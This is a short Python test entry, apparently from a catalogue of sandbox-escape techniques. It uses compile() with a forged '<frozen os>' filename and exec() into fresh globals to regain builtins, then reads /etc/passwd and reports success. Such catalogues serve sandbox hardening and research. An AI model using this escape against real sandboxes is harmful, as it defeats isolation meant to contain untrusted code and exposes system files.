# escape: 008
# technique: compile()/exec() with forged filename and fresh globals (auto-inserted builtins)
# family: bytecode
# goal: builtins
# first-seen: folklore; HackTricks
g = {}
exec(compile('r = open("/etc/passwd").readline()', '<frozen os>', 'exec'), g)
if 'root:' in g['r']: print('ESCAPED:exec in fresh globals')
